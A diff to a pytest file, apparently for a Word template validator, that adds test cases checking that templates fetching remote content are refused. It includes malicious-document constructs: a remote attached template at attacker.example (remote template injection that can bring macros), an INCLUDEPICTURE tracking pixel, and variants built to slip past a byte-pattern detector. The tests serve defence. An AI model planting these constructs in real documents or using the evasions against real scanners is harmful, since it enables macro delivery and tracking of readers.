@@ -213,8 +213,29 @@ def _footer_picture_field(parts) -> None:
                                           b'<w:fldChar w:fldCharType="end"/>', 1)
 
 
+def _attached_remote_template_single_quotes(parts) -> None:
+    """The same relationship with its attributes in single quotes (as valid XML; the byte pattern looked for
+    TargetMode="External" and let it through, and python-docx wrote it back in double quotes into the annex)."""
+    _attached_remote_template(parts)
+    rels = parts["word/_rels/settings.xml.rels"]
+    parts["word/_rels/settings.xml.rels"] = rels.replace(b'Target="http://attacker.example/t.dotm" TargetMode="Exter'
+                                                         b'nal"', b"Target='http://attacker.example/t.dotm' "
+                                                         b"TargetMode = 'External'")
+
+
+def _footer_picture_field_split(parts) -> None:
+    """The field's instruction over three runs, its name cut in two, as Word writes a field edited by hand (the
+    byte pattern wanted the name and the address in one run)."""
+    _footer_picture_field(parts)
+    footer = next(name for name in parts if re.fullmatch(r"word/footer\d+\.xml", name))
+    parts[footer] = parts[footer].replace(b' INCLUDEPICTURE "http', b' INCLUDEPIC</w:instrText></w:r><w:r><w:instrText>'
+                                          b'TURE </w:instrText></w:r><w:r><w:instrText xml:space="preserve">"http')
+
+
 @pytest.mark.parametrize("edit, address", [(_attached_remote_template, "http://attacker.example/t.dotm"),
-                                           (_footer_picture_field, "http://attacker.example/pixel.png")])
+                                           (_footer_picture_field, "http://attacker.example/pixel.png"),
+                                           (_attached_remote_template_single_quotes, "http://attacker.example/t.dotm"),
+                                           (_footer_picture_field_split, "http://attacker.example/pixel.png")])
 def test_a_template_that_fetches_a_file_from_outside_is_refused(tmp_path, edit, address):
     """Before: a house template attaching a remote template (Word fetches http://…/t.dotm on opening: « remote
     template injection », which can bring macros) or whose footer holds an INCLUDEPICTURE of an address passed into
